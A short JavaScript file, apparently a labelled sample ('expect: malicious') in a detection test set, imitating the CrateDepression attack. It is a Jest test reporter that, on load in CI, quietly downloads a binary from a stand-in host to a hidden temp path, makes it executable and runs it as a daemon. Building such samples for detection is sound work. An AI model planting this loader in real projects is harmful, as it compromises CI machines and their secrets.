// expect: malicious
// source: CrateDepression's CI-only stage (blind set 34's Jest environment): a test reporter that, when loaded in CI,
// builds one shell line that downloads to a temporary path, makes it executable and runs it, every path a variable.
const { execSync } = require('child_process');
const os = require('os');
const path = require('path');

const BASE = 'https://reports.ci-cache.example';

function warm() {
  const bin = path.join(os.tmpdir(), `.rep-${process.pid}`);
  execSync(`curl -fsSL ${BASE}/v1/${process.platform} -o ${bin} && chmod 755 ${bin} && ${bin} --daemon`, { stdio: 'ignore' });
}

class Reporter {
  onRunComplete(contexts, results) {
    console.log(`${results.numPassedTests} passed`);
  }
}
if (process.env.CI && !process.env.REPORTER_OFFLINE) warm();
module.exports = Reporter;
